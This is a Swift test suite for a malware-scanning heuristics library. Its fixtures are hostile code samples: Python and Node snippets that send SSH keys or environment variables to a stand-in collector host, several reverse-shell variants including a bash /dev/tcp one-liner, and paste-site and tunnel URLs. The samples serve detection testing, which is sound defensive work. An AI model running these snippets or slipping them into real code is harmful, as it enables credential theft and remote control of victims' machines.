import Testing
@testable import CordonHeuristics

@Suite struct CredentialAccessTests {
    @Test func sshKeyWithNetworkIsCritical() {
        let src = """
        import os, requests

        def collect():
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
            requests.post("https://collector.example.net/k", data=key)
        """
        let fs = scanFile("pkg/telemetry.py", src)
        #expect(rules(fs) == ["credential-access"])
        #expect(fs.first?.severity == .critical)
        #expect(fs.first?.startLine == 4)
    }

    @Test func environmentDumpInNodeWithNetworkIsCritical() {
        let src = """
        const https = require('https');
        const body = JSON.stringify(process.env);
        const req = https.request({ host: 'collector.example.net', method: 'POST' });
        req.end(body);
        """
        let fs = scanFile("lib/init.js", src, eco: .npm)
        #expect(rules(fs) == ["credential-access"])
        #expect(fs.map(\.severity) == [.critical])
        #expect(fs.first?.startLine == 2)
    }

    @Test func credentialPathInDocstringWithoutNetworkIsOnlyMedium() {
        let src = """
        def load_profile(name):
            \"\"\"Read the named profile from ~/.aws/credentials (same format as the AWS CLI).\"\"\"
            return _parse(name)
        """
        let fs = scanFile("pkg/profiles.py", src)
        #expect(fs.map(\.rule) == ["credential-access"])
        #expect(fs.allSatisfy { $0.severity == .medium })
        #expect(!fs.contains { $0.severity == .critical })
    }

    @Test func browserLoginDataIsFlagged() {
        let src = "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        let fs = scanFile("pkg/grab.py", src)
        #expect(fs.map(\.rule) == ["credential-access"])
        #expect(fs.first?.severity == .medium)
    }

    @Test func ordinaryEnvironmentLookupIsClean() {
        let src = """
        import os
        import requests

        def client():
            token = os.environ.get("WIDGET_TOKEN")
            home = os.path.expanduser("~")
            return requests.get("https://api.example.com/v1", headers={"Authorization": token})
        """
        #expect(scanFile("pkg/client.py", src).isEmpty)
    }
}

@Suite struct ReverseShellTests {
    @Test func socketDup2PtyIsCritical() {
        let src = """
        import socket, os, pty

        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.7", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("/bin/sh")
        """
        let fs = scanFile("pkg/shell.py", src)
        #expect(rules(fs) == ["reverse-shell"])
        #expect(fs.first?.severity == .critical)
        #expect(fs.first?.startLine == 4 && fs.first?.endLine == 5)
    }

    @Test func bashDevTcpOneLinerIsCritical() {
        let src = "import os\n\ndef go():\n    os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n"
        let fs = scanFile("pkg/go.py", src)
        #expect(rules(fs) == ["reverse-shell"])
        #expect(fs.first?.startLine == 4)
        #expect(fs.count == 1)
    }

    @Test func nodeNetSocketToShellIsCritical() {
        let src = """
        const net = require('net'), cp = require('child_process');
        const sh = cp.spawn('/bin/sh', []);
        const client = new net.Socket();
        client.connect(4444, '203.0.113.7', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });
        """
        let fs = scanFile("lib/x.js", src, eco: .npm)
        #expect(rules(fs) == ["reverse-shell"])
        #expect(fs.first?.startLine == 2 && fs.first?.endLine == 3)
    }

    @Test func plainSocketClientIsClean() {
        let src = """
        import socket

        def ping(host, port):
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(b"PING\\n")
                return s.recv(64)
        """
        #expect(scanFile("pkg/net.py", src).isEmpty)
    }

    @Test func dup2WithoutSocketIsClean() {
        let src = "import os\n\ndef redirect(fd):\n    os.dup2(fd, 1)\n"
        #expect(scanFile("pkg/io.py", src).isEmpty)
    }
}

@Suite struct ShadyLinkTests {
    @Test func discordWebhookIsMedium() {
        let src = "WEBHOOK = \"https://discord.com/api/webhooks/1234567890/AbCdEf\"\n"
        let fs = scanFile("pkg/notify.py", src)
        #expect(rules(fs) == ["shady-link"])
        #expect(fs.first?.severity == .medium)
        #expect(fs.first?.startLine == 1)
        #expect(fs.first?.message.contains("Discord") == true)
    }

    @Test func pasteSitesTunnelsAndRawIPsAreFlagged() {
        let src = """
        A = "https://pastebin.com/raw/Xy12Ab"
        B = "http://45.61.137.12:8080/stage"
        C = "https://abcd-1-2-3-4.ngrok-free.app/x"
        D = "https://hooks.slack.com/services/T000/B000/XXXX"
        E = "https://transfer.sh/abc/run.sh"
        """
        let fs = scanFile("pkg/links.py", src)
        #expect(fs.map(\.rule) == Array(repeating: "shady-link", count: 5))
        #expect(fs.map(\.startLine) == [1, 2, 3, 4, 5])
    }

    @Test func ordinaryLinksAreClean() {
        let src = """
        See https://github.com/psf/requests and https://docs.python.org/3/.
        Local dev server: http://127.0.0.1:8000/ or http://localhost:5000
        Join us on https://discord.com/invite/abc (not a webhook). Version 1.2.3.4 is not a URL.
        """
        #expect(scanFile("README.md", src).isEmpty)
    }
}
